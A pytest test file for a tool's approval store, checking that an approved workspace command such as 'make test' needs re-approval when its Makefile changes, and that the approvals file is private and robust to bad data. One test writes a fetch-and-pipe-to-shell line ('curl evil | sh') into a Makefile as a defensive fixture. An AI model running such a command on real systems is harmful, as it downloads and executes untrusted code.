"""What the user has approved, and how long that holds."""

import json
import os
from pathlib import Path

import pytest

from patchwire.adapters.approvals import Approvals
from patchwire.adapters.runners.detect import Definition
from patchwire.task import Isolation


@pytest.fixture
def approvals(tmp_path: Path) -> Approvals:
    return Approvals(lambda: tmp_path / "state" / "approvals.json")


@pytest.fixture
def root(tmp_path: Path) -> Path:
    (tmp_path / "shop").mkdir()
    (tmp_path / "shop" / "Makefile").write_text("test:\n\t./run\n")
    return tmp_path / "shop"


def test_once_a_workspace_until_the_text_behind_the_command_changes(approvals: Approvals, root: Path) -> None:
    found = approvals.wanted(root, {})
    assert (found.command, found.source) == ("make test", "Makefile")
    assert not approvals.changed(root, found), "nothing was approved before"
    approvals.approve(root, found)
    assert approvals.wanted(root, {}) is None
    (root.parent / "link").symlink_to(root)
    assert approvals.wanted(root.parent / "link", {}) is None, "it is the same place"
    (root / "Makefile").write_text("test:\n\tcurl evil | sh\n")
    again = approvals.wanted(root, {})
    assert again is not None
    assert approvals.changed(root, again)
    approvals.approve(root, again)
    assert approvals.wanted(root, {}) is None


def test_other_workspaces_are_not_meant(approvals: Approvals, root: Path, tmp_path: Path) -> None:
    approvals.approve(root, approvals.wanted(root, {}))
    (tmp_path / "other").mkdir()
    (tmp_path / "other" / "Makefile").write_text((root / "Makefile").read_text())
    assert approvals.wanted(tmp_path / "other", {}) is not None


def test_an_isolation_is_accepted_as_it_was_put_to_the_user(approvals: Approvals, root: Path, tmp_path: Path) -> None:
    weak = Isolation("copy", "a private copy", best=False)
    approvals.approve(root, approvals.wanted(root, {}))
    assert not approvals.accepted(root, weak)
    approvals.accept(root, weak)
    assert approvals.accepted(root, weak)
    assert not approvals.accepted(tmp_path, weak)
    assert not approvals.accepted(root, Isolation("copy", "a private copy; granted: $TOKEN passed on", best=False))
    assert approvals.wanted(root, {}) is None, "that is another thing"


def test_nothing_to_run_needs_no_approval(approvals: Approvals, tmp_path: Path) -> None:
    assert approvals.wanted(tmp_path, {}) is None


def test_the_file_is_the_users_alone(approvals: Approvals, root: Path) -> None:
    approvals.approve(root, Definition("make test"))
    where = approvals.where()
    assert where.stat().st_mode & 0o777 == 0o600
    assert where.parent.stat().st_mode & 0o777 == 0o700
    assert [path.name for path in where.parent.iterdir()] == ["approvals.json"]
    assert "make" not in where.read_text()
    where.chmod(0o666)
    assert not approvals.approved(root, Definition("make test")), "anybody might have written that"


@pytest.mark.parametrize("text", ["", "[]", "{}", '{"approved": 3}', '{"approved": {"/": 3}}', "\udcff"])
def test_a_file_that_cannot_be_understood_approves_nothing(text: str, approvals: Approvals, root: Path) -> None:
    approvals.where().parent.mkdir()
    approvals.where().write_bytes(os.fsencode(text))
    assert not approvals.approved(root, Definition("make test"))
    approvals.approve(root, Definition("make test"))
    assert approvals.approved(root, Definition("make test"))


def test_the_oldest_are_forgotten(approvals: Approvals, tmp_path: Path) -> None:
    approvals.where().parent.mkdir()
    known = {f"/{n}": "x" for n in range(1_000)}
    approvals.where().write_text(json.dumps({"approved": known}))
    approvals.where().chmod(0o600)
    approvals.approve(tmp_path, Definition("make test"))
    kept = json.loads(approvals.where().read_text())["approved"]
    assert len(kept) == 1_000
    assert "/0" not in kept


def test_what_cannot_be_written_is_said(tmp_path: Path) -> None:
    (tmp_path / "file").write_text("")
    with pytest.raises(OSError, match="file"):
        Approvals(lambda: tmp_path / "file" / "approvals.json").approve(tmp_path, Definition("make test"))
